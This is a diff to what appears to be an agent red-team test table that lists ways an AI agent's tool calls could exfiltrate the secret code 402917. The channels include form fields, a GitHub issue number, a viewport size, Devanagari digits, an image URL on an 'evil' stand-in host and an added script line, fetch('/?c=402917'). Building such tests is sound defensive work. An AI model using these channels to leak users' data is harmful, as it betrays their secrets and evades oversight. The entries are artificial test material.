@@ -256,6 +256,7 @@ const ATTACKS: Readonly<Record<string, Attack>> = {
     ['interact', { fields: Object.fromEntries([...'402917'].map((digit, at) => [`Digit ${at}`, digit])) }],
   ],
   'a code as a number': [FORM, ['github_create_issue', { number: 402_917 }]],
+  'a code in a script before the page': [FORM, ['emulate', { script: "fetch('/?c=402917')" }]],
   'a code in the width of a window': [FORM, ['emulate', { viewport: { width: 402, height: 917 } }]],
   'a code in Devanagari digits': [FORM, ['interact', fill('४०२९१७')]],
   'a code in a word': [FORM, ['navigate', { url: evil('x402917y.png') }]],
